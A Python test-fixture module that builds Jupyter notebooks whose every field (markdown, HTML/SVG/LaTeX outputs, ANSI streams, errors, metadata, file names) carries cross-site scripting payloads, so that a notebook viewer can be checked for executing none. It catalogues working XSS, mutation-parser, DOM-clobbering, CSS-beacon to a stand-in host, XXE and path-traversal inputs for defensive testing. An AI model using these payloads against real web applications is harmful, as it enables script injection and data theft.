"""Hostile notebooks: every way that we know to make a page act, in every field of a notebook that reaches a page.

Each payload tries to set `octavoCanary` on the page's own window, to ask a server (`BEACON`, `ELSEWHERE`), or to open a dialog. A page that
shows them has failed if one of these happens. `notebook(field)` makes the notebook of one field, `FIELDS` names all of them.
"""

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any

CANARY = "octavoCanary"
BEACON = "octavo-beacon"
"""Part of every address that only a payload would ask for."""
ELSEWHERE = f"//elsewhere.example/{BEACON}"

ACT = f"window.{CANARY}=1;try{{top.{CANARY}=1}}catch(e){{}};try{{parent.{CANARY}=1}}catch(e){{}};fetch('/api/contents?{BEACON}')"
ACT64 = base64.b64encode(f"<script>{ACT}</script>".encode()).decode()
CALL = f"top.{CANARY}=1"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

SCRIPTS = (
    f"<script>{ACT}</script>",
    f"<SCRIPT/x>{ACT}</SCRIPT>",
    f"<script\n>{ACT}</script\n>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<script type=module>{ACT}</script>",
    f"<script type=module src='data:text/javascript,{CALL}'></script>",
    f"<script>/*</script><script>*/{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script href='data:text/javascript,{CALL}'/></svg>",
    f"<math><mtext><script>{ACT}</script></mtext></math>",
    f"<template><script>{ACT}</script></template>",
    f"<noscript><p title='</noscript><script>{ACT}</script>'></noscript>",
    f'<script type=importmap>{{"imports":{{"yjs":"data:text/javascript,{CALL}"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["/api/contents?{BEACON}"]}}]}}</script>',
)

HANDLERS = (
    f"<img src=x onerror='{CALL}'>",
    f"<img src='data:image/png;base64,{PIXEL}' onload='{CALL}'>",
    f"<IMG SRC=x OnErRoR={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x onerror\n=\n{CALL}>",
    f"<img src=x onerror&#61;{CALL}>",
    f"<img src=`x` onerror=`{CALL}`>",
    f"<img src='x'\u00a0onerror='{CALL}'>",
    f"<svg onload='{CALL}'>",
    f"<svg/onload={CALL}//",
    f"<body onload='{CALL}'>",
    f"<body onpageshow='{CALL}'>",
    f"<input autofocus onfocus='{CALL}'>",
    f"<select autofocus onfocus='{CALL}'></select>",
    f"<textarea autofocus onfocus='{CALL}'></textarea>",
    f"<p tabindex=1 autofocus onfocus='{CALL}'>focus</p>",
    f"<details open ontoggle='{CALL}'><summary>s</summary>d</details>",
    f"<video><source onerror='{CALL}'></video>",
    f"<audio src=x onerror='{CALL}'></audio>",
    f"<marquee onstart='{CALL}'>m</marquee>",
    f"<div onpointerover='{CALL}' onmouseover='{CALL}' onclick='{CALL}'>over</div>",
    f"<style onload='{CALL}'>p{{color:red}}</style>",
    f"<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationstart='{CALL}' onanimationend='{CALL}'>a</p>",
    f"<p style='transition:color 1ms' ontransitionend='{CALL}' onbeforematch='{CALL}' hidden=until-found>t</p>",
    f"<object data=x onerror='{CALL}'></object>",
    f"<link rel=stylesheet href=x onerror='{CALL}'>",
    f"<button popovertarget=octavo-p>b</button><div popover id=octavo-p onbeforetoggle='{CALL}'>p</div>",
    f"<xss contenteditable onbeforeinput='{CALL}' oncontentvisibilityautostatechange='{CALL}' style='content-visibility:auto'>x</xss>",
    f"<dialog open onclose='{CALL}'><form method=dialog><button>go</button></form></dialog>",
)

FRAMES = (
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{CALL}&lt;/script&gt;'></iframe>",
    f'<iframe srcdoc="<img src=x onerror={CALL}>"></iframe>',
    f"<iframe src='data:text/html;base64,{ACT64}'></iframe>",
    f"<iframe src='/api/contents?{BEACON}'></iframe>",
    f"<iframe src='{ELSEWHERE}'></iframe>",
    f"<iframe name='{CANARY}' src=about:blank></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<object data='data:text/html;base64,{ACT64}'></object>",
    f"<object type=image/svg+xml data='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{CALL}%22/>'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<embed src='data:text/html;base64,{ACT64}'>",
    f"<frameset onload='{CALL}'><frame src='javascript:{CALL}'></frameset>",
    f"<portal src='{ELSEWHERE}'></portal><fencedframe src='{ELSEWHERE}'></fencedframe>",
    f"<applet code='{ELSEWHERE}'></applet>",
)

PAGES = (
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url=/login?{BEACON}'>",
    f"<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\"><script>{ACT}</script>",
    f"<meta http-equiv=set-cookie content='octavo-default={BEACON}'>",
    f"<meta name=referrer content=unsafe-url><meta name='octavo-page' content='{{\"base\":\"{ELSEWHERE}/\"}}'>",
    f"<base href='{ELSEWHERE}/'><script src=x.js></script><img src=y.png>",
    f"<base href='javascript:{CALL}//'><a href=x>base</a>",
    f"<form action='/logout?{BEACON}' method=post id=octavo-f><input name=_xsrf></form><button form=octavo-f>send</button>",
    f"<form action='javascript:{CALL}'><input type=submit autofocus></form>",
    f"<form><button formaction='javascript:{CALL}'>f</button><input type=image src=x formaction='javascript:{CALL}' onerror='{CALL}'></form>",
    f"<isindex action='javascript:{CALL}' type=image>",
    f"<link rel=stylesheet href='{ELSEWHERE}.css'><link rel=prefetch href='/api/contents?{BEACON}'><link rel=preload as=image href='{ELSEWHERE}'>",
    f"<link rel=manifest href='{ELSEWHERE}'><link rel=dns-prefetch href='{ELSEWHERE}'><link rel=import href='data:text/html;base64,{ACT64}'>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<style>p{{background:url({ELSEWHERE}.png)}} @font-face{{font-family:e;src:url({ELSEWHERE}.woff)}} p{{font-family:e}}</style><p>s</p>",
    f"<style>body{{--x:url({ELSEWHERE})}} *{{background:var(--x);list-style-image:image-set('{ELSEWHERE}' 1x)}}</style><ul><li>v</ul>",
    f"<p style='background:url({ELSEWHERE}.png);behavior:url(#default#time2);-moz-binding:url({ELSEWHERE})'>s</p>",
    f"<p style='width:expression({CALL});background-image:url(javascript:{CALL})'>e</p>",
    "<style>*, body, main, .head, :host{background:olive !important;color:olive !important;display:none}</style><p>olive</p>",
    "<style>:root{--paper:olive;--ink:olive} .cell{visibility:hidden}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:olive'>over all</div>",
    f"<img src='{ELSEWHERE}.png'><img srcset='{ELSEWHERE}.png 1x'><picture><source srcset='{ELSEWHERE}.png'><img src=x></picture>",
    f"<video src='{ELSEWHERE}.mp4' poster='{ELSEWHERE}.png' autoplay></video><audio src='{ELSEWHERE}.ogg' autoplay></audio>",
    f"<track src='{ELSEWHERE}'><table background='{ELSEWHERE}.png'><tr><td background='{ELSEWHERE}.png'>t</table>",
    f"<input type=image src='{ELSEWHERE}.png'><body background='{ELSEWHERE}.png'>",
    f"<a href=x ping='/api/contents?{BEACON}' id=octavo-ping>ping</a>",
)

CLOBBERS = (
    "<form id=document><input name=cookie></form><img name=currentScript><a id=octavo href=x></a>",
    f"<a id={CANARY}></a><a id={CANARY} name=x href='javascript:{CALL}'></a>",
    "<form name=body><input name=attributes><input name=nodeName><input name=parentNode><input name=innerHTML></form>",
    "<img name=getElementById><img name=querySelector><img name=head><img id=location><img id=top>",
    "<img name=body><img name=head><img name=createTreeWalker><img name=documentElement><b>here</b>",
    "<object id=body></object><object id=head></object><object id=createTreeWalker></object><embed name=body>",
    "<form><input name=removeAttribute><input name=setAttribute><input name=localName><input name=childNodes><b onclick=x>y</b></form>",
    "<svg><form><input name=attributes></form></svg><math><form id=attributes><input id=attributes></math>",
    "<input id=sheet><div id=app></div><div id=root></div><meta name=octavo-page content={}>",
    f"<form id=x tabindex=0 onfocus={CALL}><input id=attributes></form>",
)

PARSERS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f"<svg><desc><![CDATA[</desc><script>{ACT}</script>]]></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<math><annotation-xml encoding='text/html'><script>{ACT}</script></annotation-xml></math>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>{ACT}</script></body></foreignObject></svg>",
    f"<svg><title><style><img src=x onerror={CALL}></style></title></svg>",
    f"<noembed><img title='</noembed><img src=x onerror={CALL}>'></noembed>",
    f"<xmp><img title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<textarea><img title='</textarea><img src=x onerror={CALL}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={CALL}>'></title>",
    f"<plaintext><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}> -->",
    f"<?php <img src=x onerror={CALL}> ?>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<style><!--</style><img src=x onerror={CALL}>--></style>",
    f"<style>/*</style><img src=x onerror={CALL}>*/</style>",
    f"<sty\ue010le><img src=x on\ue010error={CALL}></sty\ue010le><p sty\ue010le='x' on\ue010click={CALL}>mark</p>",
    f"\ue0000\ue001<img src=x onerror={CALL}>\ue0009\ue001",
    f"<img src=x o\u0000nerror={CALL}><scr\u0000ipt>{ACT}</scr\u0000ipt>",
    "<div>" * 3000 + f"<img src=x onerror={CALL}>",
    f"<template shadowrootmode=open><img src=x onerror={CALL}><slot></slot></template>",
    f"<div><template shadowrootmode=closed><script>{ACT}</script></template></div>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{CALL}' /><text x=9 y=9>c</text></a></svg>",
    f"<svg><set attributeName=onmouseover to='{CALL}'/></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><script>{CALL}</script></svg>#x'/></svg>",
    f"<svg><image href='{ELSEWHERE}.svg'/><feImage href='{ELSEWHERE}.svg'/><use href='{ELSEWHERE}.svg#a'/></svg>",
    f"<svg><rect fill='url({ELSEWHERE}.svg#a)' filter='url({ELSEWHERE}.svg#b)' width=9 height=9 /></svg>",
    f"<math href='javascript:{CALL}'><mi xlink:href='javascript:{CALL}'>m</mi><maction actiontype='statusline#{ELSEWHERE}'>a</maction></math>",
)

SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" \x01javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript:/*--></title></style></script>*/{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html;base64,{ACT64}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"blob:https://x/{BEACON}",
    f"filesystem:https://x/{BEACON}",
    "view-source:javascript:1",
)

LINKS = tuple(f'<a href="{scheme}" id=octavo-link>link</a><area href="{scheme}">' for scheme in SCHEMES)
"""Whoever follows them must not act either: the tour presses all of them."""

HTML = (*SCRIPTS, *HANDLERS, *FRAMES, *PAGES, *CLOBBERS, *PARSERS, *LINKS)

MARKDOWN = (
    *HTML,
    *(f"[link]({scheme})" for scheme in SCHEMES),
    *(f"![picture]({scheme})" for scheme in SCHEMES),
    f"[ref]\n\n[ref]: javascript:{CALL} 'title'",
    f"<javascript:{CALL}>",
    f'[a](<javascript:{CALL}> "t")',
    f"![x](x \"' onerror={CALL} '\")",
    f"![x' onerror='{CALL}](x)",
    f"![p](attachment:a.png) ![p](attachment:b.svg) ![p](attachment:../../{BEACON}) ![p](attachment:__proto__) ![p](attachment:evil)",
    f"```<img src=x onerror={CALL}>\ncode\n```",
    f'```python"onmouseover="{CALL}\nx = 1\n```',
    f'```mermaid\ngraph TD; A["<img src=x onerror={CALL}>"]-->B; click A "javascript:{CALL}"\n```',
    f"| a | b |\n|:--|--:|\n| <img src=x onerror={CALL}> | <b style='position:fixed'>x</b> |",
    f'# <img src=x onerror={CALL}>\n\n## {CANARY} "><script>{ACT}</script>\n\n# {{#id onclick={CALL}}}',
    f"$\\href{{javascript:{CALL}}}{{x}}$ $\\url{{javascript:{CALL}}}$ $\\htmlData{{x=1}}{{y}}$ $\\htmlId{{sheet}}{{z}}$",
    f"$\\includegraphics{{{ELSEWHERE}.png}}$ $\\htmlStyle{{position:fixed}}{{a}}$ $\\htmlClass{{head}}{{b}}$",
    f"$$\\text{{<img src=x onerror={CALL}>}}$$ \\(\\unicode{{<script>{ACT}</script>}}\\) $\\text{{\\ue0000\\ue001}}$",
    "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\__proto__}{x}\\__proto__$ $\\gdef\\constructor{\\constructor}\\constructor$",
    f'<https://{BEACON}.example/"onmouseover={CALL}>',
    f'https://x.example/"onmouseover="{CALL}',
    "> " * 2000 + "deep",
    "\n".join("  " * n + "- deep" for n in range(200)),
    "[" * 5000 + "](x)" * 50,
    "*a_" * 3000,
    "$" * 4001 + "`" * 4001,
    "<" * 5000 + "!--" * 500,
    f"<div>\n\n<script>\n\n{ACT}\n\n</script>\n\n</div>",
)

LATEX = (
    f"$\\href{{javascript:{CALL}}}{{click}}$",
    f"\\href{{javascript:{CALL}}}{{click}}",
    f"$$\\html{{<img src=x onerror={CALL}>}}$$",
    f"<img src=x onerror={CALL}>",
    f"<script>{ACT}</script>",
    f"\\begin{{equation}}\\text{{</span><script>{ACT}</script>}}\\end{{equation}}",
    f"$\\includegraphics[width=1em]{{{ELSEWHERE}.png}}$",
    "$" + "\\left(" * 2000 + "1" + "\\right)" * 2000 + "$",
    "$" + "\\frac{1}{" * 200 + "1" + "}" * 200 + "$",
)

SVG = (
    *(
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" {attributes}>{inside}</svg>'
        for attributes, inside in (
            (f'onload="{CALL}"', ""),
            ("", f"<script>{ACT}</script>"),
            ("", f"<script><![CDATA[{ACT}]]></script>"),
            ("", f'<script xlink:href="data:text/javascript,{CALL}"/>'),
            ("", f'<a xlink:href="javascript:{CALL}"><rect width="20" height="20"/></a>'),
            ("", f'<image xlink:href="http:{ELSEWHERE}.png" width="9" height="9"/>'),
            (
                "",
                f'<style>@import url(http:{ELSEWHERE}.css); rect{{fill:url(http:{ELSEWHERE}.svg#a)}}</style><rect width="9" height="9"/>',
            ),
            (
                "",
                f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{CALL}"/></foreignObject>',
            ),
            ("", f'<animate attributeName="x" onbegin="{CALL}" dur="1s"/><set attributeName="onload" to="{CALL}"/>'),
        )
    ),
    f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,{ACT64}"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "http:{ELSEWHERE}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "not svg at all <script>",
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">' + "<g>" * 4000 + "</g>" * 4000 + "</svg>",
)

ANSI = (
    f"\x1b]8;;javascript:{CALL}\x1b\\link\x1b]8;;\x1b\\",
    f"\x1b]8;;JAVASCRIPT:{CALL}\x07link\x1b]8;;\x07",
    f"\x1b]8;;data:text/html;base64,{ACT64}\x07link\x1b]8;;\x07",
    f'\x1b]8;;https://x.example/"onmouseover="{CALL}\x07link\x1b]8;;\x07',
    f'\x1b]8;id=x" onclick="{CALL};https://x.example\x07link\x1b]8;;\x07',
    f"\x1b]0;<img src=x onerror={CALL}>\x07title",
    f'\x1b[31" onmouseover="{CALL}mred',
    f"\x1b[38;2;1;2;url({ELSEWHERE})mcolour",
    f"\x1b[38;5;999999m\x1b[48;2;-1;1e9;NaNmcolour <img src=x onerror={CALL}>",
    f"https://x.example/<script>{ACT}</script>",
    f"javascript:{CALL}",
    f"<script>{ACT}</script>",
    f"\x1bP+q{CALL}\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\",
)

TEXTS = (*HTML[:40], *PARSERS, *ANSI)

STRANGE_MIMES = (
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.jupyter.widget-state+json",
    "application/vnd.plotly.v1+json",
    "application/vnd.vegalite.v5+json",
    "application/vnd.bokehjs_exec.v0+json",
    "application/vnd.bokehjs_load.v0+json",
    "application/vnd.holoviews_exec.v0+json",
    "application/vnd.dataresource+json",
    "application/vnd.mermaid",
    "text/vnd.mermaid",
    "text/vnd.graphviz",
    "application/pdf",
    "application/xhtml+xml",
    "text/xml",
    "text/css",
    "text/html; charset=utf-7",
    "TEXT/HTML",
    "text/html ",
    "image/svg",
    "image/svg+xml;base64",
    "video/mp4",
    "audio/wav",
    "application/octet-stream",
    "<img src=x onerror=alert(1)>",
    "__proto__",
    "constructor",
    "",
)

Cell = dict[str, Any]


def cell(kind: str, source: str, **more: Any) -> Cell:
    made: Cell = {"cell_type": kind, "metadata": {}, "source": source, **more}
    return {"outputs": [], "execution_count": None, **made} if kind == "code" else made


def display(data: dict[str, Any], **more: Any) -> Cell:
    return {"output_type": "display_data", "data": data, "metadata": {}, **more}


def shows(*outputs: Cell) -> Cell:
    return cell("code", "", outputs=list(outputs), execution_count=1)


def of_mime(mime: str, payloads: tuple[str, ...]) -> Callable[[], Iterator[Cell]]:
    def cells() -> Iterator[Cell]:
        for payload in payloads:
            yield shows(display({mime: payload, "text/plain": "p"}))

    return cells


def strange() -> Iterator[Cell]:
    for mime in STRANGE_MIMES:
        for value in (HTML[0], HANDLERS[0], {"model_id": HANDLERS[0], "version_major": 2}, [HANDLERS[0], 1, None]):
            yield shows(display({mime: value}), display({mime: value, "text/plain": HANDLERS[0]}))


def json_trees() -> Iterator[Cell]:
    keys = {payload: payload for payload in (*HTML[:30], "__proto__", "constructor", "toString", "hasOwnProperty")}
    yield shows(display({"application/json": keys}))
    yield shows(display({"application/json": [keys, [keys]], "text/plain": "j"}))
    yield shows(display({"application/json": {"blob": HANDLERS[0], "size": 1}}))
    yield shows(display({"text/html": {"blob": "../../../login", "size": 20000}, "text/plain": "b"}))
    yield shows(display({"application/geo+json": {"type": HANDLERS[0]}}))
    deep: Any = HANDLERS[0]
    for _ in range(30):
        deep = {HANDLERS[0]: deep}
    yield shows(display({"application/json": deep}))


def pictures() -> Iterator[Cell]:
    for mime in ("image/png", "image/jpeg", "image/gif", "image/webp", "image/bmp"):
        for data in (
            f'x" onerror="{CALL}',
            f"{PIXEL}'><script>{ACT}</script>",
            base64.b64encode(HTML[0].encode()).decode(),
        ):
            yield shows(
                display(
                    {mime: data},
                    metadata={"width": f"1;{CALL}", "height": -1, "alt": HANDLERS[0], mime: {"width": HANDLERS[0]}},
                )
            )
    yield shows(display({"image/png": PIXEL, "text/plain": HANDLERS[0]}, metadata={"alt": f'" onload="{CALL}'}))


def errors() -> Iterator[Cell]:
    for payload in TEXTS:
        yield shows({"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]})
    for payload in HTML[:20]:
        trace = [
            "-" * 75,
            f"Cell In[1], line 1, in {payload}()\n----> 1 {payload}\n",
            f"File ~/{payload}:3, in {payload}\n      2 x\n----> 3 {payload}",
            f"{payload}: {payload}",
        ]
        yield shows({"output_type": "error", "ename": payload, "evalue": payload, "traceback": trace})


def streams() -> Iterator[Cell]:
    for payload in TEXTS:
        yield shows(
            {"output_type": "stream", "name": "stdout", "text": payload},
            {"output_type": "stream", "name": "stderr", "text": payload},
        )
    yield shows({"output_type": "stream", "name": HANDLERS[0], "text": HANDLERS[0]})


def texts() -> Iterator[Cell]:
    for payload in TEXTS:
        yield shows(display({"text/plain": payload}))
        yield shows(
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "data": {"text/plain": payload},
                "metadata": {payload[:40]: payload},
            }
        )


def sources() -> Iterator[Cell]:
    for payload in TEXTS:
        yield cell("code", payload)
        yield cell("raw", payload, metadata={"raw_mimetype": "text/html", "format": "text/html"})


def markdown() -> Iterator[Cell]:
    attachments = {
        "a.png": {"image/png": f'x" onerror="{CALL}'},
        "b.svg": {"image/svg+xml": base64.b64encode(SVG[1].encode()).decode()},
        f"../../{BEACON}": {"image/png": PIXEL},
        "evil": {"text/html": HTML[0]},
        HANDLERS[0]: {HANDLERS[0]: HANDLERS[0]},
    }
    for payload in MARKDOWN:
        yield cell("markdown", payload, attachments=attachments)


def metadata() -> Iterator[Cell]:
    for payload in HTML[:30]:
        odd = {
            "tags": [payload],
            "name": payload,
            "jupyter": {"outputs_hidden": payload},
            payload: payload,
            "collapsed": payload,
            "id": payload,
        }
        yield cell("code", "1", metadata=odd, id=payload[:64])
    for kind in (HANDLERS[0], "__proto__", "constructor", "script"):
        yield {"cell_type": kind, "metadata": {}, "source": HTML[0], "id": kind[:64]}


FIELDS: dict[str, Callable[[], Iterator[Cell]]] = {
    "markdown": markdown,
    "sources": sources,
    "html": of_mime("text/html", HTML),
    "output-markdown": of_mime("text/markdown", MARKDOWN),
    "latex": of_mime("text/latex", (*LATEX, *HTML[:20])),
    "svg": of_mime("image/svg+xml", (*SVG, *HTML[:20])),
    "javascript": of_mime(
        "application/javascript",
        (ACT, f"</script><script>{ACT}</script>", f"element.innerHTML = {json.dumps(HANDLERS[0])}; {ACT}"),
    ),
    "text-javascript": of_mime("text/javascript", (ACT, f"import('data:text/javascript,{CALL}')", f"<!--\n{ACT}\n-->")),
    "pictures": pictures,
    "json": json_trees,
    "strange": strange,
    "texts": texts,
    "streams": streams,
    "errors": errors,
    "metadata": metadata,
}

NAMES = (
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>.txt',
    "javascript:alert(1)",
    "'-alert(1)-'",
    "a&lt;b&amp;",
    "%3Cscript%3E.md",
    "\u202egnp.exe",
    "__proto__",
    "a\tb",
    "{{7*7}}${7*7}",
    "x..%2f..%2fetc",
    "#?&=;",
)
"""Of files, folders and notebooks."""


def notebook(field: str) -> dict[str, Any]:
    """All payloads in one field. Its own metadata is hostile too."""
    return document(
        [{"id": f"c{n}", **made} if field != "metadata" else made for n, made in enumerate(FIELDS[field]())]
    )


def document(cells: list[Cell]) -> dict[str, Any]:
    evil = HANDLERS[0]
    metadata = {
        "kernelspec": {"name": evil, "display_name": evil, "language": evil},
        "language_info": {
            "name": evil,
            "version": evil,
            "mimetype": evil,
            "file_extension": evil,
            "codemirror_mode": {"name": evil},
        },
        "title": evil,
        "authors": [{"name": evil}],
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {evil: {"model_name": evil, "state": {"value": evil}}}
            }
        },
        evil: evil,
    }
    return {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def count() -> int:
    """How many outputs and cells carry a payload."""
    return sum(max(1, len(made.get("outputs", []))) for cells in FIELDS.values() for made in cells())


def scripted(field: str) -> list[str]:
    """The same outputs as programs of the scripted kernel: shown by a run of one's own."""
    programs = []
    for made in FIELDS[field]():
        for output in made.get("outputs", []):
            match output["output_type"]:
                case "display_data" | "execute_result":
                    kind, content = (
                        "display_data",
                        {"data": output["data"], "metadata": output.get("metadata", {}), "transient": {}},
                    )
                case "stream":
                    kind, content = "stream", {"name": output["name"], "text": output["text"]}
                case _:
                    kind, content = "error", {key: output[key] for key in ("ename", "evalue", "traceback")}
            programs.append(f"message iopub {kind} {json.dumps(content)}")
    return programs
